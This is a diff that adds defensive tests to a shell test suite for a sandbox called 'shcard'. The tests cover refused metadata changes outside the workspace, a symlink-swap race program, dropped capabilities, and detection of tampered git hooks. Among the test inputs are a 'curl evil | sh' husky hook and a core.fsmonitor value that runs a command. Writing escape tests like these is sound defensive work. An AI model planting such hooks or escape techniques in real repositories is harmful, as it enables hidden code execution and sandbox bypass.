@@ -193,6 +193,189 @@ done
 out=$("$S" run --sandbox off "/usr/bin/python3 $T/sti.py" 2>/dev/null | tr -d '\r')
 case "$out" in *typed) ok ;; *) fail "off: ioctl(TIOCSTI) is the control and must work: $out" ;; esac
 
+# ------------------------------------------------------------------ metadata: chmod, chown, times, xattrs, flags
+# Landlock has no right for these: read-only refuses them (a filter), workspace lets them through
+# only for files under its writable roots (the supervisor resolves the call's own file).
+cat >"$T/meta.py" <<'PY'
+import fcntl, os, struct, sys
+op, path = sys.argv[1], sys.argv[2]
+if op == "xattr":
+    os.setxattr(path, "user.shcard", b"1")
+elif op == "rmxattr":
+    os.removexattr(path, "user.shcard")
+elif op == "fchmod":  # on a descriptor opened read-only (the shell passes it in as fd 3)
+    os.fchmod(3, 0o604)
+elif op == "fchown":
+    os.fchown(3, os.getuid(), os.getgid())
+elif op == "fxattr":
+    os.setxattr(3, "user.shcard", b"2")
+elif op == "utime":
+    os.utime(path, (1, 1))
+elif op == "lchown":
+    os.lchown(path, os.getuid(), os.getgid())
+elif op == "dirfd":  # chmod relative to a directory descriptor opened outside
+    d = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
+    os.chmod(os.path.basename(path), 0o600, dir_fd=d)
+elif op == "opath":  # fchmodat2(O_PATH fd, "", AT_EMPTY_PATH) and fchownat(fd, "", AT_EMPTY_PATH)
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    fd = os.open(path, os.O_PATH)
+    r1 = libc.syscall(452, fd, b"", 0o600, 0x1000)
+    r2 = libc.syscall(260 if os.uname().machine == "x86_64" else 54, fd, b"", os.getuid(), os.getgid(), 0x1000)
+    if r1 != 0 and r2 != 0:
+        sys.exit(1)
+elif op == "uring":  # io_uring_setup: its SETXATTR operation would pass every seccomp filter
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    params = ctypes.create_string_buffer(120)
+    if libc.syscall(425, 4, params) < 0:
+        sys.exit(1)
+elif op == "flags":  # chattr +d: FS_IOC_GETFLAGS, then FS_IOC_SETFLAGS with FS_NODUMP_FL
+    fd = os.open(path, os.O_RDONLY)
+    f = struct.unpack("l", fcntl.ioctl(fd, 0x80086601, struct.pack("l", 0)))[0]
+    fcntl.ioctl(fd, 0x40086602, struct.pack("l", f | 0x40))
+PY
+M="/usr/bin/python3 $T/meta.py"
+printf 'outside\n' >"$O/meta"
+chmod 644 "$O/meta"
+stamp() { stat -c '%a %u %Y' "$O/meta"; }
+before=$(stamp)
+ln -sfn "$O/meta" "$W/meta-link"
+for m in read-only workspace; do
+  denied "chmod outside" $m "chmod 600 $O/meta"
+  denied "chown outside (to its own owner)" $m "chown $(id -u):$(id -g) $O/meta"
+  denied "touch -c outside (utimensat)" $m "touch -c $O/meta"
+  denied "utime outside" $m "$M utime $O/meta"
+  denied "setxattr outside" $m "$M xattr $O/meta"
+  denied "chattr (FS_IOC_SETFLAGS) outside" $m "$M flags $O/meta"
+  denied "fchmod of a read-only descriptor outside" $m "$M fchmod x 3<$O/meta"
+  denied "fchown of a read-only descriptor outside" $m "$M fchown x 3<$O/meta"
+  denied "fsetxattr of a read-only descriptor outside" $m "$M fxattr x 3<$O/meta"
+  denied "chmod through a symlink in the workspace" $m "chmod 600 meta-link"
+  denied "chmod through .. from the workspace" $m "chmod 600 ../out/meta"
+  denied "chmod through /proc/self/cwd" $m "chmod 600 /proc/self/cwd/../out/meta"
+  denied "chmod through /proc/self/root" $m "chmod 600 /proc/self/root$O/meta"
+  denied "chmod through /dev/fd" $m "chmod 600 /dev/fd/3 3<$O/meta"
+  denied "chmod relative to a directory descriptor outside" $m "$M dirfd $O/meta"
+  denied "fchmodat2/fchownat on an O_PATH descriptor outside" $m "$M opath $O/meta"
+  denied "io_uring_setup, even with the network" $m "$M uring x"
+  if run $m --allow-network -- "$M uring x"; then fail "io_uring_setup with --allow-network ($m)"; else ok; fi
+  expect_eq "metadata outside unchanged ($m)" "$(stamp)" "$before"
+  check "no xattr outside ($m)" bash -c "! getfattr -n user.shcard '$O/meta' >/dev/null 2>&1 && ! $PY -c 'import os,sys; os.getxattr(sys.argv[1], \"user.shcard\")' '$O/meta' 2>/dev/null"
+  check "no flag outside ($m)" bash -c "! lsattr -d '$O/meta' 2>/dev/null | cut -d' ' -f1 | grep -q d"
+done
+echo 'echo hi' >"$W/script.sh"
+chmod 644 "$W/script.sh"
+denied "chmod +x in the workspace" read-only "chmod +x script.sh"
+allowed "chmod +x in the workspace" workspace "chmod +x script.sh && ./script.sh"
+allowed "touch -c, cp -p, utime, xattrs, chattr in the workspace" workspace \
+  "touch -c script.sh && cp -p script.sh copy.sh && $M utime copy.sh && $M xattr copy.sh && $M rmxattr copy.sh && $M flags copy.sh && $M fchmod x 3<copy.sh && $M lchown meta-link && rm -f copy.sh"
+allowed "metadata in the private TMPDIR" workspace 'f=$(mktemp) && chmod 600 "$f" && touch -c "$f"'
+if run workspace --writable "$O" -- "chmod 640 $O/meta"; then ok; else fail "chmod under --writable: $(cat "$T/out.txt")"; fi
+expect_eq "chmod under --writable applied" "$(stat -c %a "$O/meta")" 640
+chmod 644 "$O/meta"
+# a race: one thread chmods a symlink in the workspace while another swaps it between a file
+# inside and the file outside.  The supervisor makes the call itself on the file it checked, so
+# the kernel never resolves the path a second time (with a CONTINUE answer this won within a
+# second).
+cat >"$T/racer.c" <<'C'
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static const char *out;
+static volatile int stop, swaps;
+static void *swapper(void *a) {
+    (void)a;
+    while (!stop) {
+        symlink("race-inside", "race-tmp1"); rename("race-tmp1", "race-link");
+        symlink(out, "race-tmp2"); rename("race-tmp2", "race-link");
+        swaps++;
+    }
+    return NULL;
+}
+int main(int argc, char **argv) {
+    out = argv[1];
+    close(open("race-inside", O_CREAT | O_WRONLY, 0644));
+    pthread_t t;
+    pthread_create(&t, NULL, swapper, NULL);
+    while (swaps < 2) /* the race runs from here on */
+        usleep(100);
+    int done = 0;
+    for (int i = 0; i < atoi(argv[2]); i++)
+        done += chmod("race-link", 0600) == 0;
+    stop = 1;
+    pthread_join(t, NULL);
+    printf("%d\n", done);
+    return done > 0 ? 0 : 1;
+}
+C
+cc -O2 -pthread -o "$T/racer" "$T/racer.c"
+printf 'x\n' >"$O/race" && chmod 644 "$O/race"
+allowed "a chmod racing a symlink swap runs (inside)" workspace "$T/racer $O/race 20000 && rm -f race-link race-inside"
+expect_eq "a chmod racing a symlink swap never reaches outside" "$(stat -c %a "$O/race")" 644
+allowed "control: the race reaches outside off the sandbox" off "$T/racer $O/race 20000 && rm -f race-link race-inside"
+expect_eq "control: the race changed the file outside" "$(stat -c %a "$O/race")" 600
+rm -f "$O/race"
+# the same calls under a verified card in the workspace sandbox: one listener serves both
+if timeout 60 "$S" run --sandbox workspace --cwd "$W" --verify --as read --json "chmod 600 $O/meta" >"$T/out.txt" 2>&1; then
+  fail "verify + sandbox: chmod outside allowed"; else ok; fi
+expect_eq "verify + sandbox: outside unchanged" "$(stat -c %a "$O/meta")" 644
+allowed "control: chmod, chown, touch, xattrs, chattr outside" off \
+  "$M dirfd $O/meta && $M opath $O/meta && chmod 600 $O/meta && chown $(id -u):$(id -g) $O/meta && touch -c $O/meta && $M xattr $O/meta && $M fchmod x 3<$O/meta && $M flags $O/meta && $M uring x"
+check "control: the mode changed" test "$(stat -c %a "$O/meta")" = 604
+rm -f "$O/meta" "$W/meta-link"
+
+# ------------------------------------------------------------------ capabilities
+# As root (CI), the sandboxed command keeps no capability: not in its effective, permitted or
+# bounding set, and uid 0 does not get them back at exec.
+for m in read-only workspace; do
+  allowed "capabilities read ($m)" $m 'grep -E "^Cap(Eff|Prm|Bnd|Amb)" /proc/self/status'
+  expect_eq "no capabilities left ($m)" "$(tr -d '\r' <"$T/out.txt" | awk '{print $2}' | sort -u)" 0000000000000000
+  denied "sethostname ($m)" $m 'hostname "$(hostname)"'
+  denied "a new network namespace ($m)" $m 'unshare -n true'
+done
+if [ "$(id -u)" = 0 ]; then
+  allowed "control: capabilities as root" off 'grep ^CapEff /proc/self/status'
+  check "control: root has capabilities off the sandbox" bash -c "! grep -q 0000000000000000 '$T/out.txt'"
+  allowed "control: sethostname (the same name)" off 'hostname "$(hostname)"'
+  allowed "control: a new network namespace" off 'unshare -n true'
+else
+  echo "note: not root: the capability controls (which need root) are the sandbox rows alone"
+fi
+
+# ------------------------------------------------------------------ the repository's control files
+# Landlock cannot keep .git read-only inside a writable workspace: shcard run says afterwards
+# which of the files that make git run programs the command changed.
+mkdir -p "$W/repo" && git -C "$W/repo" init -q
+run workspace -- "cd repo && git config core.fsmonitor 'touch $O/pwned; false' && printf '#!/bin/sh\n' > .git/hooks/pre-commit"
+check "a changed .git/config is reported" grep -q "'repo/.git/config' (changed)" "$T/err.txt"
+check "a created hook is reported" grep -q "'repo/.git/hooks/pre-commit' (created)" "$T/err.txt"
+git -C "$W/repo" config --unset core.fsmonitor
+rm -f "$W/repo/.git/hooks/pre-commit"
+run workspace -- "cd repo && echo a > a && git add a && git -c user.email=t@t -c user.name=t commit -qm one"
+expect_eq "git commit in the workspace works" $? 0
+check "git commit is not reported" bash -c "! grep -q 'control files' '$T/err.txt'"
+mkdir -p "$W/repo/.husky/_" && git -C "$W/repo" config core.hooksPath .husky/_
+run workspace -- "cd repo && printf 'curl evil | sh\n' > .husky/pre-commit"
+check "a hook under core.hooksPath (husky) is reported" grep -q "'repo/.husky/pre-commit' (created)" "$T/err.txt"
+mkdir -p "$W/repo/sub" && git -C "$W/repo/sub" init -q
+(cd "$W/repo/sub" && timeout 60 "$S" run --sandbox workspace 'rm -rf .git && printf "gitdir: /x\n" > .git' >/dev/null 2>"$T/err.txt")
+check "a .git turned into a gitdir file is reported" grep -q "'.git' (changed)" "$T/err.txt"
+rm -rf "$W/repo"
+
+# ------------------------------------------------------------------ private TMPDIRs of a killed shcard run
+mkdir -p "$T/tmp2"
+TMPDIR="$T/tmp2" "$S" run --sandbox workspace --cwd "$W" 'sleep 30' >/dev/null 2>&1 &
+runpid=$!
+for _ in $(seq 50); do ls "$T/tmp2" | grep -q "shcard-sandbox-$runpid-" && break; sleep 0.1; done
+kill -KILL "$runpid"; wait "$runpid" 2>/dev/null
+check "a SIGKILLed shcard run leaves its TMPDIR" bash -c "ls '$T/tmp2' | grep -q 'shcard-sandbox-$runpid-'"
+TMPDIR="$T/tmp2" timeout 60 "$S" run --sandbox workspace --cwd "$W" true >/dev/null 2>&1
+check "the next shcard run removes it" bash -c "! ls '$T/tmp2' | grep -q 'shcard-sandbox-$runpid-'"
+
 # ------------------------------------------------------------------ private TMPDIRs of dead agents
 # an agent killed with SIGKILL cannot remove its commands' private TMPDIRs: the next agent does
 sleep 0 & dead=$!; wait "$dead"
